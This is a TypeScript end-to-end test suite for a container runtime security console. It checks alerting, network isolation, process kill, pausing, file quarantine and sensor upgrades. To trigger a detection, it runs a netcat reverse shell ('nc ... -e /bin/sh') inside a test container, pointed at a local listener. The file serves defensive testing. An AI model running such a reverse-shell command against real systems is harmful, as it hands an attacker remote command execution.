import { execFile, spawn } from "node:child_process";
import { once } from "node:events";
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { promisify } from "node:util";
import { temporaryDirectory } from "@bulwark/image/testing";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type ConsoleBench, openConsoleBench, settled, type Window } from "./support/console-bench.ts";
import { type Containerd, openContainerd, whyNoContainerd } from "./support/containerd.ts";
import { SENSOR, whyNoSensor } from "./support/sensor-process.ts";

const why = whyNoSensor() || whyNoContainerd();
if (why !== "") console.warn(`no attack is watched in the console: ${why}`);

const run = promisify(execFile);
const SLOW_MS = 240_000;
const ANSWER_MS = 30_000;
const IMAGE = "docker.io/library/shop:2";
const BULWARK = join(import.meta.dirname, "../bin/bulwark");

describe.skipIf(why !== "")("from the attack to the network that is given back, in a browser", () => {
  const directory = temporaryDirectory();
  /** A copy: it replaces itself. */
  const program = join(directory.path, "bin/bulwark-sensor");
  const opened: (() => unknown)[] = [() => directory.remove()];
  let bench: ConsoleBench;
  let containerd: Containerd;
  let window: Window;
  let page: Page;
  /** Each test has one of its own: what was done to it is told by its name. */
  let container = "";
  let tests = 0;
  /** Lasts as long as the shell that calls home. */
  let shell: Promise<string>;
  beforeAll(async () => {
    mkdirSync(join(directory.path, "bin"));
    copyFileSync(SENSOR, program);
    [bench, containerd] = await Promise.all([openConsoleBench(), openContainerd(directory.path)]);
    opened.push(bench.close, containerd.close);
    await containerd.load(IMAGE);
    window = await bench.logIn();
    page = window.page;
    opened.push(window.close);
    const { token } = await bench.call<{ token: string }>(window, "POST", "/enrolment-tokens", { name: "test" });
    await startSensor(token);
  }, SLOW_MS);
  beforeEach(() => {
    container = `console-${process.pid}-${++tests}`;
  });
  afterEach(async () => {
    await containerd.remove(container);
    expect(window.complaints).toEqual([]);
  });
  afterAll(async () => {
    for (const end of opened.toReversed()) await end();
  });

  /** Enrols and starts the sensor as its service would. */
  async function startSensor(token: string): Promise<void> {
    const state = join(directory.path, "sensor");
    const words = ["enroll", "--server", `https://${bench.gateway}`, "--state", state];
    await run(program, words, { env: { ...process.env, BULWARK_ENROLMENT_TOKEN: token } });
    const sensor = spawn(program, ["run", "--state", state], { stdio: ["ignore", "ignore", "pipe"] });
    opened.push(async () => {
      const ended = once(sensor, "exit");
      sensor.kill("SIGTERM");
      await ended;
    });
    for await (const line of createInterface({ input: sensor.stderr })) if (line.includes("connected")) return;
  }

  /** Something that a shell calls home to; whoever says `x` is only looking. */
  async function attacker(): Promise<number> {
    const home = createServer((socket) => {
      socket.on("error", () => {}).write("id\n");
      socket.on("data", (said) => {
        if (String(said) === "x\n") socket.end();
      });
    });
    opened.push(() => home.close());
    await new Promise<void>((resolve) => home.listen(0, "127.0.0.1", resolve));
    return (home.address() as { port: number }).port;
  }

  /** Lets a container, which is in the node's network, listen for everybody, and waits until that is known. */
  async function listens(): Promise<void> {
    void containerd.exec(container, "/bin/nc -l -p 0 </dev/zero");
    const heard = async () => {
      const path = `/runtime-events?types=listen&container=${container}`;
      return (await bench.call<{ items: unknown[] }>(window, "GET", path)).items.length;
    };
    await expect.poll(heard, { timeout: ANSWER_MS }).toBe(1);
  }

  /** Runs a reverse shell and opens its alert, which appears by itself. */
  async function attacked(port: number, before: () => Promise<void> = async () => {}): Promise<void> {
    await open("/alerts");
    await containerd.start(IMAGE, container);
    await before();
    shell = containerd.exec(container, `/bin/nc 127.0.0.1 ${port} -e /bin/sh`);
    // Nobody reloads the page.
    const row = page.locator(`main tr:has-text('${container}')`).first();
    await row.waitFor({ timeout: ANSWER_MS });
    await bench.picture(window, "sensor-alerts");
    await row.locator("td a").first().click();
    await page.waitForURL("**/alerts/*");
    await settled(page);
  }

  async function open(path: string): Promise<void> {
    await page.goto(path);
    await settled(page);
  }

  async function openContainer(): Promise<void> {
    await containerd.start(IMAGE, container);
    await open(`/assets?text=${container}&running=true`);
    await page.click(`main td a:has-text('${container}')`);
    await page.waitForURL("**/containers/*");
    await page.goto(`${page.url()}?tab=responses`);
    await settled(page);
  }

  /** Chooses an action, fills in its form, and waits until the node has done it. */
  async function respond(action: string, done: number, fill: () => Promise<void> = async () => {}): Promise<void> {
    // What is asked for more seldom stands behind this one, beside the others.
    await page.waitForSelector("button:has-text('More')");
    const button = page.locator(`main button:has-text('${action}'):not(td button)`);
    if ((await button.count()) > 0) await button.first().click();
    else {
      await page.click("button:has-text('More')");
      await page.click(`.ant-dropdown-menu-item:has-text('${action}')`);
    }
    await fill();
    await page.click(`.ant-modal-footer button:has-text('${action}')`);
    await expect
      .poll(() => page.locator("main .tag:text-is('Done')").count(), { timeout: ANSWER_MS })
      .toBeGreaterThanOrEqual(done);
  }

  test("a reverse shell appears by itself, tells its story, is isolated, and its network restored", {
    timeout: SLOW_MS,
  }, async () => {
    const port = await attacker();
    await attacked(port);
    await bench.picture(window, "sensor-alert");
    await respond("Isolate network", 1, () => page.fill("#reason", "a shell that calls home"));
    const look = () => containerd.exec(container, `echo x | /bin/nc -w 1 127.0.0.1 ${port}`);
    await expect(look()).resolves.not.toContain("id");
    await bench.picture(window, "sensor-isolated");
    await page.click("main td button:has-text('Undo')");
    await page.waitForSelector("main td:has-text('undone by')", { timeout: ANSWER_MS });
    await expect(look()).resolves.toContain("id");
    await open(`${new URL(page.url()).pathname}?tab=story`);
    expect(await page.locator(".story-node").count()).toBeGreaterThan(1);
    await bench.picture(window, "sensor-story");
  });

  test("the process of an alert is killed, with evidence captured before", { timeout: SLOW_MS }, async () => {
    await attacked(await attacker(), listens);
    // Others reach it since it listens.
    await page.waitForSelector(".page-title .tag:text-is('Exposed')");
    // The evidence is a response of its own.
    await respond("Kill process", 2, () => page.check("#tree"));
    await expect(shell).resolves.toMatch(/exit (?!0$)/);
    await page.waitForSelector("main td:has-text('ended')");
    expect(await page.locator("main .evidence-links a").count()).toBeGreaterThan(1);
    await bench.picture(window, "sensor-killed");
  });

  test("a container is paused and resumed, and its runtime says so", { timeout: SLOW_MS }, async () => {
    await openContainer();
    await respond("Pause", 1);
    expect(await containerd.state(container)).toBe("PAUSED");
    await page.waitForSelector(".page-title .tag:has-text('Paused')", { timeout: ANSWER_MS });
    await bench.picture(window, "sensor-paused");
    await page.click("main td button:has-text('Undo')");
    await page.waitForSelector("main td:has-text('undone by')", { timeout: ANSWER_MS });
    expect(await containerd.state(container)).toBe("RUNNING");
    await expect(containerd.exec(container, "echo alive")).resolves.toContain("alive");
  });

  test("a file is taken out of its container and given back as it was", { timeout: SLOW_MS }, async () => {
    await openContainer();
    await containerd.exec(container, "echo evil > /tmp/tool; chmod 751 /tmp/tool");
    await respond("Quarantine file", 1, () => page.fill("#path", "/tmp/tool"));
    await expect(containerd.exec(container, "cat /tmp/tool")).resolves.toContain("No such file");
    await bench.picture(window, "sensor-quarantined");
    await page.click("main td button:has-text('Undo')");
    await page.waitForSelector("main td:has-text('undone by')", { timeout: ANSWER_MS });
    await expect(containerd.exec(container, "cat /tmp/tool; ls -l /tmp/tool")).resolves.toMatch(/evil\n-rwxr-x--x/);
  });

  test("the sensor is upgraded from its page, taken back when the new one is none, and upgraded from the command line", {
    timeout: SLOW_MS,
  }, async () => {
    const old = readFileSync(program);
    // What follows the last section of an ELF file is not looked at: the same program, with another digest.
    const fresh = (name: string) => Buffer.concat([old, Buffer.from(name)]);
    const broken = Buffer.concat([old.subarray(0, 64), Buffer.alloc(64)]);
    await open("/nodes?tab=upgrades");
    for (const [version, content] of [
      ["9.0.0", broken],
      ["9.1.0", fresh("9.1.0")],
    ] as const) {
      const file = join(directory.path, version);
      writeFileSync(file, content);
      await page.click("button:has-text('Add a program')");
      await page.fill("#version", version);
      await page.setInputFiles("#files", file);
      await page.click(".ant-modal-footer button:has-text('Add a program')");
      await page.waitForSelector(`main td:has-text('${version}')`);
    }
    await page.click("main a[href^='/nodes/'], .ant-tabs-tab:has-text('Nodes')");
    await page.click("main td a[href^='/nodes/']");
    await page.waitForURL("**/nodes/*");
    const upgradeTo = async (version: string) => {
      await settled(page);
      await page.click(".page-actions button:has-text('Upgrade sensor')");
      await page.click(".ant-modal .ant-select");
      await page.click(`.ant-select-item-option:has-text('${version}')`);
      await page.click(".ant-modal-footer button:has-text('Upgrade')");
    };
    await upgradeTo("9.0.0");
    await page.waitForSelector("main .tag:text-is('Taken back')", { timeout: 2 * ANSWER_MS });
    await bench.picture(window, "sensor-upgrade-taken-back");
    expect(readFileSync(program).equals(old)).toBe(true);
    await upgradeTo("9.1.0");
    await page.waitForSelector("main .tag:text-is('Upgraded')", { timeout: 2 * ANSWER_MS });
    expect(readFileSync(program).equals(fresh("9.1.0"))).toBe(true);
    const { token } = await bench.call<{ token: string }>(window, "POST", "/tokens", {
      ...{
        name: "cli",
        scopes: ["runtime:read", "admin:read", "admin:write"],
        days: 1,
      },
    });
    const env = { ...process.env, BULWARK_SERVER: new URL(page.url()).origin, BULWARK_TOKEN: token };
    writeFileSync(join(directory.path, "next"), fresh("9.2.0"));
    const bulwark = async (...words: readonly string[]) => (await run(BULWARK, words, { env })).stdout;
    await expect(bulwark("sensor", "upload", join(directory.path, "next"), "--version", "9.2.0")).resolves.toContain(
      "9.2.0 for linux/",
    );
    await expect(bulwark("sensor", "upgrade", "--all", "--to", "9.2.0")).resolves.toMatch(
      /done: sensor 9.2.0 runs[\s\S]*1 of 1 nodes/,
    );
    expect(readFileSync(program).equals(fresh("9.2.0"))).toBe(true);
    await open("/nodes?tab=upgrades");
    await bench.picture(window, "sensor-upgrades");
  });

  test("a node that is removed is gone from the list, and its sensor comes in no more", {
    timeout: SLOW_MS,
  }, async () => {
    await open("/nodes");
    await page.click("main td a[href^='/nodes/']");
    await page.waitForURL("**/nodes/*");
    await settled(page);
    await page.click(".page-actions button:has-text('Remove node')");
    await page.click(".ant-modal-confirm-btns button:has-text('Remove node')");
    await page.waitForURL((url) => url.pathname === "/nodes");
    await page.waitForSelector("main :text('No sensor yet')");
    await containerd.start(IMAGE, container);
    await expect(containerd.exec(container, "id")).resolves.toContain("uid=0");
    const { items } = await bench.call<{ items: unknown[] }>(
      window,
      "GET",
      `/containers?text=${container}&running=true`,
    );
    expect(items).toEqual([]);
  });
});
